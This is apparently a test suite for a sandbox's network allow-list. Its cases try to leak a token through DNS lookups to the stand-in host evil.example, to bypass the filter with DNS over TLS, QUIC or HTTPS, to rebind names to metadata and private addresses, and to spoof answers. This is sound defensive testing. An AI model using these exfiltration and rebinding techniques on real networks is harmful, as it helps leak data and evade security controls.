# SPDX-License-Identifier: GPL-2.0-or-later
"""E-40 to E-55: DNS as a way out, and as a way to be misled."""

import re

from lib import zone
from lib.case import Cases, arrives, expect, expect_eq, expect_in
from lib.commands import attempt, curl, dig, probe, python, tls

CASES = Cases()

GOOD = ["--allow", "good.example", "--allow", "good.example:80"]
UPSTREAM = [("udp", zone.DNS4, 53), ("tcp", zone.DNS4, 53)]

# --- E-40: the name is the payload. Each way of having a name looked up.
for what, command in (
    ("dig", dig("{tok}.evil.example")), ("dig +tcp", dig("+tcp", "{tok}.evil.example")),
    ("getaddrinfo", probe("addresses", "{tok}.evil.example")),
    ("curl http", curl("http://{tok}.evil.example/")),
    ("curl https", curl("https://{tok}.evil.example/")),
    ("below an allowed name", dig("{tok}.good.example")),
    ("reverse lookup", dig("-x", "203.0.113.66", "{tok}.in-addr.arpa")),
    ("search list", ["dig", "+search", "+domain={tok}.evil.example", "+tries=1", "www"]),
    ("upper case", dig("{tok}.EVIL.example")),
    ("root", dig("{tok}.")), ("underscore", dig("_{tok}._tcp.evil.example", "SRV")),
):
    CASES.contain(f"E-40 {what}", GOOD, command, control=what in ("dig", "dig +tcp", "upper case"))
HOST = "GET / HTTP/1.1\\r\\nHost: {tok}.evil.example\\r\\nConnection: close\\r\\n\\r\\n"
CASES.deny("E-40 Host in a request to an address", GOOD, probe("raw", zone.v4(10), 80, HOST))
CASES.deny("E-40 Host in a request to an allowed name", GOOD,
           probe("raw", "good.example", 80, HOST), UPSTREAM)
CASES.contain("E-40 SNI to an allowed name", GOOD, tls("good.example", "{tok}.evil.example"),
              UPSTREAM)


@CASES.case("E-41 a wildcard lets out a bounded number of names")
def _wildcard(t):
    code = python("""
import socket
for i in range(2500):
    try:
        socket.getaddrinfo('%060d.wild.example' % i, 1, socket.AF_INET)
    except OSError:
        pass
""")
    marks = t.marks()
    t.jail("--allow", "*.wild.example", timeout=60)(code)
    names = {q["name"].lower() for q in t.asked(marks)}
    expect(0 < len(names) <= 1000, f"{len(names)} names reached upstream")


# --- E-42: other types carry data, too.
for qtype in ("TXT", "NULL", "SRV", "MX", "ANY", "HTTPS", "CNAME", "NAPTR", "TYPE65399"):
    for how in ("+notcp", "+tcp"):
        CASES.contain(f"E-42 {qtype} {how[1:]}", GOOD, dig(how, "{tok}.evil.example", qtype),
                      control=qtype == "TXT")

# --- E-43, E-44: any server, either transport.
for server in (zone.DNS4, zone.DNS_OTHER, zone.DNS6, zone.v4(66), zone.v6(66), "9.9.9.9"):
    for how in ("+notcp", "+tcp"):
        CASES.contain(f"E-43 direct to {server}, {how[1:]}", GOOD,
                      dig(how, f"@{server}", "{tok}.evil.example"),
                      control=server in (zone.DNS4, zone.DNS_OTHER, zone.DNS6))
CASES.contain("E-44 question on another port", GOOD,
              dig("-p", "5353", f"@{zone.v4(66)}", "{tok}.evil.example"), control=False)


@CASES.case("E-44 pipelined questions over TCP are judged one by one")
def _pipeline(t):
    marks = t.marks()
    result = t.jail(*GOOD)(attempt("dns_pipeline", zone.DNS_OTHER, "good.example", "evil.example"))
    wanted = [(i, (0, 1) if i % 2 else (3, 0)) for i in range(10)]
    expect_eq(result.out.strip(), str(wanted), "answers", result)
    expect(not t.asked(marks, name="evil.example"), "evil was asked for")


# --- E-45: DNS in other clothes.
CASES.deny("E-45 DNS over TLS", GOOD, attempt("tcp", zone.DNS_OTHER, 853, "{tok}"))
CASES.deny("E-45 DNS over TLS to an allowed name", GOOD, probe("tcp", "good.example", 853, "{tok}"),
           UPSTREAM)
CASES.deny("E-45 DNS over QUIC", GOOD, attempt("udp", zone.DNS_OTHER, 853, "{tok}"))
CASES.deny("E-45 DNS over HTTPS by address", GOOD, tls(zone.v4(10), "dns.example"))
CASES.deny("E-45 DNS over HTTPS with another SNI", GOOD, tls("good.example", "dns.example"),
           UPSTREAM)

# --- E-46: names that lead where no name may lead.
REBIND = ("private", "private172", "private192", "cgnat", "metadata", "metadata-cn", "metadata6",
          "ula", "nat64", "sixtofour", "teredo", "pool", "pool6", "reserved", "alias-private")
for name in REBIND:
    CASES.deny(f"E-46 {name}.example", ["--allow", f"{name}.example:*"],
               probe("tcp", f"{name}.example", 999, "{tok}"), UPSTREAM,
               control=name not in ("reserved",))
for name in ("loop4", "loop6", "mapped", "zero"):
    CASES.deny(f"E-46 {name}.example", ["--allow", f"{name}.example:*"],
               probe("tcp", f"{name}.example", zone.PORT_LOOPBACK, "{tok}"), UPSTREAM)
for name in ("private", "metadata", "loop4"):
    CASES.deny(f"E-46 {name}.example, dns: real and any name", ["--allow", "*:*"],
               probe("tcp", f"{name}.example", 15432, "{tok}"), UPSTREAM, control=False)
    CASES.deny(f"E-46 {name}.example, UDP", ["--allow", f"udp/{name}.example"],
               probe("udp", f"{name}.example", 999, "{tok}"), UPSTREAM, control=False)

# --- E-48, E-49: answers that were not asked for.
for what, name in (("E-48 records besides the chain", "poisoned.example"),
                   ("E-49 wrong ids", "wrongid.example"), ("E-49 wrong questions",
                                                           "wrongname.example")):
    @CASES.case(f"{what} are not believed")
    def _poisoned(t, name=name):
        marks = t.marks()
        result = arrives(t, t.jail("--allow", f"{name}:80", *GOOD), curl(f"http://{name}/{{tok}}"))
        arrives(t, t.jail("--allow", f"{name}:80", *GOOD), curl("http://good.example/{tok}"))
        leaks = [p for p in t.leaks(marks, UPSTREAM) if p["dst"] in zone.both(66)]
        expect(not leaks, f"packets to evil: {leaks}", result)


@CASES.case("E-50 a connection right behind the answer, 300 times")
def _race(t):
    code = python("""
import socket
for i in range(300):
    address = socket.gethostbyname('n%d.wild.example' % i)
    socket.create_connection((address, 7007), 2).close()
print('all')
""")
    result = t.jail("--allow", "*.wild.example:7007", timeout=30)(code)
    expect_in("all", result.out, "output", result)


@CASES.case("E-51 an address that has left the zone is not used for ever")
def _stale(t):
    """TTL 1; the second answer says that the name is gone. The floor is a few seconds."""
    code = python("""
import socket, time
print(socket.gethostbyname('once.example') != '')
time.sleep(6.5)
try:
    socket.gethostbyname('once.example')
    print('still there')
except OSError:
    print('gone')
""")
    result = t.jail("--allow", "once.example:*", timeout=20)(code)
    expect_eq(result.out.split(), ["True", "gone"], "the name", result)


# --- E-52: one address, two names.
SHARED = ["--allow", "shared-a.example", "--allow", "shared-a.example:80"]
for what, command in (
    ("https, connection of the allowed name", tls("shared-a.example", "shared-b.example")),
    ("http, connection of the allowed name", curl("http://shared-b.example/{tok}", "--connect-to",
                                                  "shared-b.example:80:shared-a.example:80")),
    ("https, their address", curl("https://shared-b.example/{tok}", "--resolve",
                                  f"shared-b.example:443:{zone.v4(20)}")),
    ("http, their address", curl("http://shared-b.example/{tok}", "--resolve",
                                 f"shared-b.example:80:{zone.v4(20)}")),
    ("the allowed name, by their address", curl("https://shared-a.example/{tok}", "--resolve",
                                                f"shared-a.example:443:{zone.v4(20)}")),
):
    CASES.deny(f"E-52 {what}", SHARED, command, UPSTREAM)


@CASES.case("E-53 many names: the gate stays small and goes on")
def _many(t):
    code = python("""
import os, re, socket
for i in range(1500):
    try:
        socket.getaddrinfo('%d.wild.example' % i, 1, socket.AF_INET)
    except OSError:
        pass
print(socket.gethostbyname('good.example') != '')
""")
    result = t.jail("--allow", "*.wild.example", *GOOD, timeout=60)(code)
    expect_in("True", result.out, "the rest", result)


# --- E-55: one name, many spellings.
for spelling in (r"evil.example\.good.example", r"good.example\000",
                 r"good.example\000.evil.example",
                 r"evil\.example", "evil.example.good.example", "good.example..",
                 r"good\046example"):
    @CASES.case(f"E-55 {spelling}")
    def _spelling(t, spelling=spelling):
        marks = t.marks()
        result = t.jail(*GOOD)(dig(spelling))
        asked = t.asked(marks)
        expect(not asked, f"upstream was asked {asked}", result)
        expect(not re.search(r"^\S+\s+\d+\s+IN\s+A\s", result.out, re.M), "answered", result)
